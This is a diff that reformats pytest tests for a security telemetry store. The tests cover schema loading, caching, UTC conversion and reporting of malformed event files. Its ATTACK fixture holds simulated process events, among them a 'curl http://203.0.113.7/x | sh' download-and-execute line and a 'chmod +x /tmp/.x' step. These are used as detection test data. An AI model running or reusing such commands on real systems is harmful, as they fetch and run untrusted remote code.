@@ -16,14 +16,25 @@ from ctirealm.telemetry.events import TelemetryFormatError
 from ctirealm.telemetry.schema import SchemaError, load_schemas
 from ctirealm.telemetry.store import build_store
 
-ATTACK = {"sim1": {"DeviceProcessEvents": [
-    process_event(482913377104, "bash -c 'curl http://203.0.113.7/x | sh' 9f1c-sim",
-                  AdditionalFields={"k": [1, 2]}),
-    process_event(590114783321, "chmod +x /tmp/.x 9f1c-sim", when="2026-03-05T10:00:05+02:00"),
-]}}
-BENIGN = {"sim1": {"DeviceProcessEvents": [
-    process_event(771029384455, "curl -fsSL https://get.docker.com | sh"),
-]}}
+ATTACK = {
+    "sim1": {
+        "DeviceProcessEvents": [
+            process_event(
+                482913377104,
+                "bash -c 'curl http://203.0.113.7/x | sh' 9f1c-sim",
+                AdditionalFields={"k": [1, 2]},
+            ),
+            process_event(590114783321, "chmod +x /tmp/.x 9f1c-sim", when="2026-03-05T10:00:05+02:00"),
+        ]
+    }
+}
+BENIGN = {
+    "sim1": {
+        "DeviceProcessEvents": [
+            process_event(771029384455, "curl -fsSL https://get.docker.com | sh"),
+        ]
+    }
+}
 
 
 def test_the_twelve_schemas_load() -> None:
@@ -42,13 +53,14 @@ def test_store_loads_events_with_types_and_labels(make_telemetry, tmp_path: Path
     assert store.labels.group("DeviceProcessEvents", 482913377104) == "sim1"
     with LocalEngine.of_store(store) as engine:
         rows = engine.query(
-            "DeviceProcessEvents | where ReportId == 590114783321 "
-            "| project Timestamp, AdditionalFields"
+            "DeviceProcessEvents | where ReportId == 590114783321 | project Timestamp, AdditionalFields"
         ).to_dicts()
         # +02:00 converted to UTC
         assert rows[0]["Timestamp"].isoformat() == "2026-03-05T08:00:05+00:00"
-        first = engine.query("DeviceProcessEvents | where ReportId == 482913377104 "
-                             "| extend n = array_length(AdditionalFields.k) | project n").rows
+        first = engine.query(
+            "DeviceProcessEvents | where ReportId == 482913377104 "
+            "| extend n = array_length(AdditionalFields.k) | project n"
+        ).rows
         assert first == [(2,)]
         # now() is the window's end: everything lies within the last 14 days
         assert engine.query("DeviceProcessEvents | where Timestamp > ago(14d) | count").rows == [(3,)]
@@ -64,8 +76,7 @@ def test_store_is_cached_and_rebuilt_only_on_change(make_telemetry, tmp_path: Pa
     mtime = first.path.stat().st_mtime_ns
     again = build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
     assert again.path == first.path and again.path.stat().st_mtime_ns == mtime
-    write_jsonl(root / "benign" / "x" / "DeviceProcessEvents.jsonl",
-                [process_event(123456789012, "ls -la")])
+    write_jsonl(root / "benign" / "x" / "DeviceProcessEvents.jsonl", [process_event(123456789012, "ls -la")])
     changed = build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
     assert changed.path != first.path
     assert changed.rows["DeviceProcessEvents"] == 3
@@ -88,8 +99,10 @@ def test_concurrent_builders_share_one_store(make_telemetry, tmp_path: Path) -> 
     ("line", "message"),
     [
         ('{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 1', "invalid JSON"),
-        ('{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 1, "Bogus": 2}',
-         "column 'Bogus' is not in DeviceProcessEvents"),
+        (
+            '{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 1, "Bogus": 2}',
+            "column 'Bogus' is not in DeviceProcessEvents",
+        ),
         ('{"Timestamp": "yesterday", "ReportId": 1}', "column 'Timestamp' (datetime)"),
         ('{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": "abc"}', "column 'ReportId' (long)"),
         ('{"Timestamp": "2026-03-05T10:00:00Z"}', "missing id column 'ReportId'"),
@@ -119,7 +132,9 @@ def test_duplicate_ids_are_reported_with_both_places(make_telemetry, tmp_path: P
 def test_unknown_table_file_and_missing_schema_are_clear(make_telemetry, tmp_path: Path) -> None:
     root = make_telemetry(ATTACK)
     write_jsonl(root / "attack" / "sim1" / "DeviceEvents.jsonl", [{"x": 1}])
-    with pytest.raises(TelemetryFormatError, match=re.escape("DeviceEvents.jsonl: file name must be a table name")):
+    with pytest.raises(
+        TelemetryFormatError, match=re.escape("DeviceEvents.jsonl: file name must be a table name")
+    ):
         build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=0)
     (root / "schemas" / "AKSAudit.json").write_text('{"table": "AKSAudit"}')
     dataset = Dataset.load(root)
@@ -141,16 +156,15 @@ def _lenient(root: Path, tmp_path: Path, rows: int = 0):
     return build_store(Dataset.load(root), cache_dir=tmp_path / "c", rows=rows, strict=False)
 
 
-def test_lenient_build_leaves_out_a_truncated_file_and_names_its_line(
-    make_telemetry, tmp_path: Path
-) -> None:
+def test_lenient_build_leaves_out_a_truncated_file_and_names_its_line(make_telemetry, tmp_path: Path) -> None:
     root = make_telemetry({**ATTACK, **GOOD}, BENIGN)
     bad = root / "attack" / "sim1" / "DeviceProcessEvents.jsonl"
     text = bad.read_text()
     bad.write_text(text[: len(text) - 20])  # cut the last line short, no newline
     store = _lenient(root, tmp_path)
     assert [(p.path, p.line, p.kind, p.table, p.group) for p in store.problems] == [
-        ("attack/sim1/DeviceProcessEvents.jsonl", 2, "attack", "DeviceProcessEvents", "sim1")]
+        ("attack/sim1/DeviceProcessEvents.jsonl", 2, "attack", "DeviceProcessEvents", "sim1")
+    ]
     assert "invalid JSON" in store.problems[0].message and "truncated line?" in store.problems[0].message
     assert str(store.problems[0]).startswith("attack/sim1/DeviceProcessEvents.jsonl:2: invalid JSON")
     # none of the bad file's events, not even its valid first line; everything else is in
@@ -168,19 +182,32 @@ def test_lenient_build_leaves_out_a_truncated_file_and_names_its_line(
 
 
 def test_lenient_build_reports_every_bad_file_once(make_telemetry, tmp_path: Path) -> None:
-    root = make_telemetry({**ATTACK, **GOOD}, {"dup": {"DeviceProcessEvents": [
-        process_event(222222222222, "ls"), process_event(482913377104, "ls -la")]}})
+    root = make_telemetry(
+        {**ATTACK, **GOOD},
+        {
+            "dup": {
+                "DeviceProcessEvents": [
+                    process_event(222222222222, "ls"),
+                    process_event(482913377104, "ls -la"),
+                ]
+            }
+        },
+    )
     write_jsonl(root / "attack" / "sim1" / "DeviceEvents.jsonl", [{"x": 1}])
-    write_jsonl(root / "attack" / "sim3" / "DeviceFileEvents.jsonl",
-                [{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 5, "Bogus": 1}])
+    write_jsonl(
+        root / "attack" / "sim3" / "DeviceFileEvents.jsonl",
+        [{"Timestamp": "2026-03-05T10:00:00Z", "ReportId": 5, "Bogus": 1}],
+    )
     store = _lenient(root, tmp_path)
     found = {p.path: (p.line, p.message) for p in store.problems}
-    assert sorted(found) == ["attack/sim1/DeviceEvents.jsonl", "attack/sim3/DeviceFileEvents.jsonl",
-                             "benign/dup/DeviceProcessEvents.jsonl"]
+    assert sorted(found) == [
+        "attack/sim1/DeviceEvents.jsonl",
+        "attack/sim3/DeviceFileEvents.jsonl",
+        "benign/dup/DeviceProcessEvents.jsonl",
+    ]
     assert found["attack/sim1/DeviceEvents.jsonl"][0] is None
     assert "file name must be a table name" in found["attack/sim1/DeviceEvents.jsonl"][1]
-    assert found["attack/sim3/DeviceFileEvents.jsonl"] == (
-        1, "column 'Bogus' is not in DeviceFileEvents")
+    assert found["attack/sim3/DeviceFileEvents.jsonl"] == (1, "column 'Bogus' is not in DeviceFileEvents")
     # the later file with a clashing id is the one left out; the first keeps its events
     line, message = found["benign/dup/DeviceProcessEvents.jsonl"]
     assert line == 2 and "ReportId 482913377104 already used at" in message
@@ -194,19 +221,20 @@ def test_a_duplicate_id_inside_one_file_names_both_lines(make_telemetry, tmp_pat
     store = _lenient(root, tmp_path)
     assert [str(p) for p in store.problems] == [
         f"attack/s/DeviceProcessEvents.jsonl:2: ReportId 7 already used at "
-        f"{root / 'attack' / 's' / 'DeviceProcessEvents.jsonl'}:1"]
+        f"{root / 'attack' / 's' / 'DeviceProcessEvents.jsonl'}:1"
+    ]
     assert store.rows["DeviceProcessEvents"] == 0
 
 
-def test_lenient_build_without_a_broken_schema_keeps_the_other_tables(
-    make_telemetry, tmp_path: Path
-) -> None:
+def test_lenient_build_without_a_broken_schema_keeps_the_other_tables(make_telemetry, tmp_path: Path) -> None:
     root = make_telemetry({**ATTACK, "k8s": {"AKSAudit": [{"TimeGenerated": "2026-03-05T10:00:00Z"}]}})
     (root / "schemas" / "AKSAudit.json").write_text("{not json")
     shutil.copytree(ROOT / "telemetry" / "generator", root / "generator")
     store = _lenient(root, tmp_path, rows=2000)
     assert [(p.path, p.kind) for p in store.problems] == [
-        ("schemas/AKSAudit.json", "schema"), ("attack/k8s/AKSAudit.jsonl", "attack")]
+        ("schemas/AKSAudit.json", "schema"),
+        ("attack/k8s/AKSAudit.jsonl", "attack"),
+    ]
     assert "invalid JSON" in store.problems[0].message
     assert store.problems[1].message.startswith("the schema of AKSAudit did not load (schemas/AKSAudit.json:")
     assert "AKSAudit" not in store.rows and "AKSAudit" not in store.meta["schemas"]
